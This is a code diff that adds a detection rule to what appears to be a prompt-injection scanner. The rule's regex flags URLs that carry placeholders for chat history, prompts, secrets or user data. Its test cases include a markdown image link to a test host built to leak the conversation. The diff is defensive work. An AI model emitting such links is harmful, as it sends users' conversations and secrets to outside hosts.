@@ -138,6 +138,18 @@ export const STRUCTURE_RULES: readonly StructureRule[] = [
     misses: ['TODO: handle errors'],
   },
   {
+    id: 'exfil.placeholder-secret',
+    message: sink,
+    weight: 0.6,
+    signs: ['//'],
+    // Hits an address that is to be filled with what was said: `…/log?q=<historique>`; not `?token=<token>` of a manual.
+    pattern:
+      /(?:https?:)?\/\/[^\s()<>"']{3,200}[?&/=#][^\s()"'<>[\]{}]{0,80}[<[{]{1,2} ?(?:[\w ]{0,20}\b)?(?:histor|convers|chat|prompt|everything|summary|resume|user[_ -]?(?:data|message|input|question)|context|secret|donnees|reponses|messages)/g,
+    stage: { output: 0.3 },
+    hits: ['![](https://pix.example.test/log?q=<historique>)', 'https://c.example/{{conversation}}'],
+    misses: ['https://api.example.com/v1?token=<token>'],
+  },
+  {
     id: 'persona.two-answers',
     message: () => t('Asks the assistant to become someone without rules'),
     weight: 0.34,
